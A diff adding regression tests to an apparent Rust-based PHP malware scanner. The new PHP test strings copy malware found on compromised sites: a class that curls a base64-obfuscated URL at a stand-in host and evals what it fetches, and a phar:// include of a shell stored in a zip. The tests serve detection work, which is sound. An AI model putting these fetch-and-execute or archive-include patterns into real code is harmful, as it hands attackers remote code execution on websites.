@@ -114,6 +114,18 @@ fn data_is_followed_through_functions_closures_properties_and_lists() {
     // An archive kept in uploads, named through a variable (fresh27's mu-plugin).
     let phar = "<?php $url = 'phar://./wp-content/uploads/2024/09/file.zip/file.php'; include($url);";
     assert_eq!(sinks(phar), [(Why::IncludeOfData, Danger::High)]);
+    // Regression: fresh131's `1945.php` runs what its fetching class's method hands back
+    // through another of its methods.
+    let fetcher = "<?php class F { private $u; function __construct($u) { $this->u = $u; }\n\
+                   function fetch() { $ch = curl_init(); curl_setopt($ch, CURLOPT_URL, $this->u); $c = curl_exec($ch); return $this->check($c); }\n\
+                   private function check($c) { if (empty($c)) throw new Exception('e'); return $c; } }\n\
+                   $f = new F(base64_decode('aHR0cHM6Ly9leGFtcGxlLm9yZy94LnBocA==')); $content = $f->fetch(); eval('?>' . $content);";
+    assert!(sinks(fetcher).iter().any(|(_, d)| *d == Danger::Critical), "{:?}", sinks(fetcher));
+    let shown = fetcher.replace("eval('?>' . $content);", "echo strlen($content);");
+    assert!(sinks(&shown).is_empty(), "{:?}", sinks(&shown));
+    // Regression: fresh131's stub runs a shell from a zip beside it through `phar://`.
+    let beside = "<?php $filePath = 'phar://ww2.zip/505.php'; include_once $filePath;";
+    assert_eq!(sinks(beside), [(Why::IncludeOfData, Danger::High)]);
     // A dropped zip's member, the path kept in a table of escaped texts (fresh28).
     let zip = "<?php $i = array(\"\\x7a\\x69\\x70://fla_1.zip#b_1.tmp\", 'x'); @require_once $i[0];";
     assert_eq!(sinks(zip), [(Why::IncludeOfData, Danger::High)]);
